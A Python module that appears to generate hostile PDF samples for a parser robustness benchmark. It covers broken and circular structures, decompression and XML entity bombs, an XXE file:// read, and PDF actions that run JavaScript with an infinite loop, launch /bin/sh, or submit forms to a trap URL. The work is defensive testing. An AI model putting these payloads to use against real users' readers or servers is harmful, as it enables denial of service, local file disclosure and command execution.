"""PDF: structure that is broken or goes round in circles, bombs, actions, and content without end or sense."""

from __future__ import annotations

import pymupdf

from benchmarks.attack.hostile.kind import Kind, Trap, document, noise
from benchmarks.attack.hostile.pdf_file import PAGES, TEXT, bomb, flate, objects, one_page, pages, stream
from tests.formats.pdf.samples import pdf

HEALTHY = "healthy.pdf", pdf("The mast is nine metres high.")
ANY = ("parsed", "no_text", "corrupt", "empty")
LIMITS = (*ANY, "too_large", "timeout", "out_of_memory")


def pdfs() -> list[Kind]:
    return [*_structure(), *_bombs(), *_actions(), *_contents()]


def _structure() -> list[Kind]:
    whole = one_page()
    nested = {PAGES: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>"} | {
        n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1) for n in range(10, 20_010)
    } | {20_010: objects()[3]}  # fmt: skip
    return [
        document("a table of objects before itself", "prev.pdf", one_page(trailer=b"/Prev HERE"), *ANY),
        document("tables that call one another", "streams.pdf", one_page(trailer=b"/Prev HERE /XRefStm HERE"), *ANY),
        document("no trailer", "trailer.pdf", whole[: whole.index(b"trailer")], *ANY),
        document("no table", "table.pdf", whole[: whole.index(b"xref\n0")], *ANY),
        document("a table beyond the end", "beyond.pdf", one_page(start=2**40), *ANY),
        document("a table at a negative place", "negative.pdf", one_page(start=-5), *ANY),
        document("cut in the middle", "cut.pdf", whole[: len(whole) // 2], *ANY),
        document("nothing but the first line", "first.pdf", b"%PDF-1.7\n", "corrupt", "empty"),
        document("noise after the first line", "noise.pdf", b"%PDF-1.7\n" + noise(50_000), "corrupt", "empty"),
        document("rubbish before the first line", "rubbish.pdf", b"\0" * 1_000 + whole, *ANY),
        document("pages in a circle", "circle.pdf", one_page(extra={PAGES: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 >>"}), *ANY),
        document("pages, 20,000 levels deep", "levels.pdf", lambda _: one_page(extra=nested), *ANY),
        document("100,000 pages", "pages.pdf", lambda _: pages(100_000), "too_large"),
        document("two billion pages that are not there", "count.pdf", one_page(extra={PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"}), *ANY, "too_large"),
        document("a negative number of pages", "minus.pdf", one_page(extra={PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count -1 >>"}), *ANY),
        document("a root that is not there", "root.pdf", whole.replace(b"/Root 1 0 R", b"/Root 9 0 R"), *ANY),
        document("arrays, a million levels deep", "arrays.pdf", one_page(extra={6: b"[" * 1_000_000}, catalog=b"/A 6 0 R"), *ANY),
        document("dictionaries, 100,000 levels deep", "deep.pdf", one_page(page=b"/A " + b"<</A " * 100_000), *ANY),
        document("a length that is its own length", "length.pdf", one_page(extra={4: b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % TEXT}), *ANY),
        document("a stream of objects that holds itself", "holds.pdf", one_page(extra={6: stream(b"6 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")}, catalog=b"/A 6 0 R"), *ANY),
        document("an outline in a circle", "outline.pdf", one_page(extra={6: b"<< /First 7 0 R /Last 7 0 R /Count 9 >>", 7: b"<< /Title (a) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>"}, catalog=b"/Outlines 6 0 R"), *ANY),
        document("names of places in a circle", "names.pdf", one_page(extra={6: b"<< /Dests 7 0 R >>", 7: b"<< /Kids [7 0 R 7 0 R] >>"}, catalog=b"/Names 6 0 R /PageLabels 7 0 R"), *ANY),
        document("form fields in a circle", "fields.pdf", one_page(extra={6: b"<< /Fields [7 0 R] >>", 7: b"<< /FT /Tx /T (a) /V (b) /Parent 7 0 R /Kids [7 0 R] /Subtype /Widget /Rect [0 0 9 9] >>"}, catalog=b"/AcroForm 6 0 R", page=b"/Annots [7 0 R]"), *ANY),
        document("a parent that is the page", "parent.pdf", one_page(page=b"/Parent 3 0 R /Rotate 45"), *ANY),
        document("a page that is a number", "number.pdf", one_page(extra={3: b"17"}), *ANY),
        document("a page that is also an archive and HTML", "polyglot.pdf", b"<html><!--PK\x03\x04" + whole + b"PK\x05\x06" + bytes(18), *ANY, "not_what_it_says"),
        document("HTML named .pdf", "html.pdf", b"<html><body>a</body></html>", "not_what_it_says"),
    ]  # fmt: skip


def _bombs() -> list[Kind]:
    spaces = b"/Filter /FlateDecode"
    wide = b"/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>"
    image = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
    draws = b"q 500 0 0 500 0 0 cm /X Do Q " + TEXT
    laughs = {n: stream(b"/X Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % (n + 1)) for n in range(10, 22)}  # fmt: skip
    laughs[22] = stream(TEXT, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return [
        document("content of 600 MB in 600 kB", "flate.pdf", lambda _: one_page(extra={4: stream(bomb(60), spaces)}), *LIMITS),
        document("content of 20 GB in 60 kB", "layers.pdf", lambda _: one_page(extra={4: stream(bomb(2_000, 2), b"/Filter [/FlateDecode /FlateDecode]")}), *LIMITS),
        document("1,000 layers of compression", "filters.pdf", one_page(extra={4: stream(TEXT, b"/Filter [%s]" % (b"/ASCIIHexDecode " * 1_000))}), *ANY),
        document("a predictor for two billion columns", "columns.pdf", one_page(extra={4: flate(TEXT, wide)}), *LIMITS),
        document("a filter that does not exist", "filter.pdf", one_page(extra={4: stream(TEXT, b"/Filter /None")}), *ANY),
        document("runs that unpack to 25 MB", "runs.pdf", one_page(extra={4: stream(b"\x81 " * 200_000, b"/Filter /RunLengthDecode")}), *LIMITS),
        document("a picture of 60,000 x 60,000 in 200 bytes", "picture.pdf", one_page(draws, {6: stream(b"", image)}, resources=b"/XObject << /X 6 0 R >>"), *ANY),
        document("a picture of 60,000 x 60,000 that unpacks", "unpacks.pdf", lambda _: one_page(draws, {6: stream(bomb(100), image + spaces)}, resources=b"/XObject << /X 6 0 R >>"), *LIMITS),
        document("a picture of noise in JPEG 2000", "jpx.pdf", one_page(draws, {6: stream(b"\0\0\0\x0cjP  \r\n\x87\n" + noise(9_999), image + b"/Filter /JPXDecode")}, resources=b"/XObject << /X 6 0 R >>"), *ANY),
        document("a picture of noise in JBIG2", "jbig2.pdf", one_page(draws, {6: stream(noise(9_999), image + b"/Filter /JBIG2Decode")}, resources=b"/XObject << /X 6 0 R >>"), *ANY),
        document("a picture whose mask is itself", "mask.pdf", one_page(draws, {6: stream(b"", image.replace(b"60000", b"60") + b"/SMask 6 0 R")}, resources=b"/XObject << /X 6 0 R >>"), *ANY),
        document("a form that draws itself", "itself.pdf", one_page(draws, {6: stream(draws, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")}, resources=b"/XObject << /X 6 0 R >>"), *LIMITS),
        document("forms that draw ten forms, 12 levels deep", "laughs.pdf", one_page(draws, laughs, resources=b"/XObject << /X 10 0 R >>"), *LIMITS),
        document("properties with an entity bomb", "xmp.pdf", one_page(extra={6: stream(_laughs(), b"/Type /Metadata /Subtype /XML")}, catalog=b"/Metadata 6 0 R"), *ANY),
        document("an attached archive bomb", "attached.pdf", lambda _: one_page(extra={6: stream(bomb(60), b"/Type /EmbeddedFile " + spaces), 7: b"<< /Type /Filespec /F (a.zip) /EF << /F 6 0 R >> >>"}, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>"), *ANY),
    ]  # fmt: skip


def _laughs() -> bytes:
    rules = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE x [<!ENTITY a0 "ha">{rules}]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a11;</x:xmpmeta>'.encode()


def _actions() -> list[Kind]:
    locked = {"encryption": pymupdf.PDF_ENCRYPT_AES_256, "owner_pw": "o", "user_pw": "u"}
    owned = locked | {"user_pw": ""}

    def action(words: str) -> bytes:
        return one_page(
            catalog=b"/OpenAction << %s >>" % words.encode(), page=b"/AA << /O << %s >> >>" % words.encode()
        )

    def outside(trap: Trap) -> bytes:
        return one_page(extra={4: b"<< /Length 0 /F (%s) >>\nstream\n\nendstream" % str(trap.file).encode()})

    def included(trap: Trap) -> bytes:
        return one_page(b"/X Do " + TEXT, {6: b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (%s) /Page 0 >> /Length 0 >>\nstream\n\nendstream" % str(trap.file).encode()}, resources=b"/XObject << /X 6 0 R >>")  # fmt: skip

    return [
        document("a password that nobody knows", "locked.pdf", lambda _: pdf("a", save=locked), "encrypted"),
        document("rights of an owner", "owner.pdf", lambda _: pdf("a", save=owned), "parsed"),
        document("an encryption that does not exist", "unknown.pdf", one_page(trailer=b"/Encrypt << /Filter /None /V 99 >>"), "encrypted", *ANY),
        document("a key of a million bits", "key.pdf", one_page(trailer=b"/ID [<00> <00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 1000000 /P -4 /O (%s) /U (%s) >>" % (b"a" * 32, b"b" * 32)), "encrypted", *ANY),
        document("a script", "script.pdf", lambda trap: action(f"/S /JavaScript /JS (app.launchURL\\('{trap.url}'\\); while\\(1\\);)"), "parsed"),
        document("a program to start", "launch.pdf", lambda trap: action(f"/S /Launch /F (/bin/sh) /Win << /F (/bin/sh) /P (-c 'touch {trap.file}.touched') >>"), "parsed"),
        document("an address to open", "open.pdf", lambda trap: action(f"/S /URI /URI ({trap.url}/a)"), "parsed"),
        document("a form to send", "send.pdf", lambda trap: action(f"/S /SubmitForm /F ({trap.url}/a) /Flags 4"), "parsed"),
        document("another file to go to", "goto.pdf", lambda trap: action(f"/S /GoToR /F ({trap.file}) /D [0 /Fit]"), "parsed"),
        document("content in a file elsewhere", "outside.pdf", outside, *ANY),
        document("a form in a file elsewhere", "included.pdf", included, *ANY),
        document("a form of XML", "xfa.pdf", lambda trap: one_page(catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>", extra={6: stream(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file://%s">]><a>&b;</a>' % str(trap.file).encode())}), *ANY),
    ]  # fmt: skip


def _contents() -> list[Kind]:
    box = b"/MediaBox [%s]"
    cmap = b"begincmap 1 begincodespacerange <0000> <FFFFFFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0000> endbfrange endcmap"
    font = b"<< /Type /Font /Subtype /%s /BaseFont /A /FirstChar 0 /LastChar 255 %s >>"
    return [
        document("a page of a billion points", "giant.pdf", one_page(page=box % b"0 0 1000000000 1000000000"), *ANY),
        document("a page without a size", "zero.pdf", one_page(page=box % b"0 0 0 0"), *ANY),
        document("a page turned inside out", "inside.pdf", one_page(page=box % b"595 842 -595 -842"), *ANY),
        document("a page whose size is no number", "nan.pdf", one_page(page=box % b"nan inf -inf 1e999"), *ANY),
        document("a unit of a billion points", "unit.pdf", one_page(page=b"/UserUnit 1e10"), *ANY),
        document("text at places that are no numbers", "places.pdf", one_page(b"BT /F1 12 Tf nan inf 1e999 -1e999 nan nan Tm (a) Tj ET " + TEXT), *ANY),
        document("text at the end of the number range", "range.pdf", one_page(b"BT /F1 12 Tf 3e38 0 0 3e38 3e38 3e38 Tm (The mast) Tj ET " + TEXT), *ANY),
        document("letters of a billion points", "letters.pdf", one_page(TEXT.replace(b"12 Tf", b"1000000000 Tf")), *ANY),
        document("letters without a size", "tiny.pdf", one_page(TEXT.replace(b"12 Tf", b"0 Tf")), *ANY),
        document("a font without a map", "map.pdf", one_page(extra={5: font % (b"Type3", b"/CharProcs << >> /Encoding << /Differences [0 /x1] >> /FontMatrix [0 0 0 0 0 0] /FontBBox [0 0 0 0]")}), *ANY),
        document("a map of four billion letters", "letters4.pdf", one_page(extra={5: font % (b"Type0", b"/Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [5 0 R]"), 6: stream(cmap)}), *LIMITS),
        document("a font file of noise", "fontfile.pdf", one_page(extra={5: font % (b"TrueType", b"/FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 6 0 R >>"), 6: stream(noise(20_000))}), *ANY),
        document("a letter that draws itself", "glyph.pdf", one_page(TEXT.replace(b"(The mast is nine metres high.)", b"(aaa)"), {5: font % (b"Type3", b"/CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FontMatrix [1 0 0 1 0 0] /FontBBox [0 0 1 1] /Resources << /Font << /F1 5 0 R >> >>"), 6: stream(b"1 0 d0 BT /F1 1 Tf (aaa) Tj ET")}), *LIMITS),
        document("a million states saved", "states.pdf", lambda _: one_page(extra={4: flate(b"q " * 1_000_000 + TEXT)}), *LIMITS),
        document("a string of 300 kB", "string.pdf", lambda _: one_page(extra={4: flate(TEXT + b"BT /F1 1 Tf (" + b"a" * 300_000 + b") Tj ET")}), *LIMITS),
        document("50,000 pieces of text at one place", "pieces.pdf", lambda _: one_page(extra={4: flate(b"BT /F1 9 Tf 60 700 Td (a) Tj ET\n" * 50_000)}), *LIMITS),
        document("20,000 lines and rectangles", "lines.pdf", lambda _: one_page(extra={4: flate(TEXT + b"".join(b"%d %d 30 20 re S %d 0 m 9 842 l S\n" % (n % 500, n % 800, n % 595) for n in range(20_000)))}), *LIMITS),
        document("50,000 cells of a table", "cells.pdf", lambda _: one_page(extra={4: flate(b"".join(b"%d %d 2 3 re S\n" % (x * 2, y * 3) for x in range(200) for y in range(250)) + TEXT)}), *LIMITS),
        document("a line of a billion dashes", "dashes.pdf", one_page(b"[0.000001] 0 d 0 0 m 100000 100000 l S " + TEXT), *LIMITS),
        document("a pattern of tiny tiles", "tiles.pdf", one_page(b"/Pattern cs /P scn 0 0 595 842 re f " + TEXT, {6: stream(b"0 0 1 1 re f", b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.00001 /YStep 0.00001 /Resources << >>")}, resources=b"/Pattern << /P 6 0 R >>"), *LIMITS),
        document("a colour that is made of itself", "colour.pdf", one_page(b"/C cs 1 scn 0 0 9 9 re f " + TEXT, {6: b"[/Indexed 6 0 R 255 (a)]"}, resources=b"/ColorSpace << /C 6 0 R >>"), *ANY),
        document("a function that is made of itself", "function.pdf", one_page(b"/S sh " + TEXT, {6: b"<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9 9] /Function 7 0 R >>", 7: b"<< /FunctionType 3 /Domain [0 1] /Functions [7 0 R 7 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>"}, resources=b"/Shading << /S 6 0 R >>"), *ANY),
        document("5,000 notes on a page", "notes.pdf", lambda _: one_page(page=b"/Annots [%s]" % (b"<< /Subtype /Text /Rect [0 0 9 9] /Contents (a) >>" * 5_000)), *LIMITS),
        document("an inline picture without an end", "inline.pdf", one_page(TEXT + b"BI /W 60000 /H 60000 /CS /RGB /BPC 8 ID " + noise(999)), *ANY),
        document("500 pages of one content", "shared.pdf", lambda _: pages(500), "parsed"),
    ]  # fmt: skip
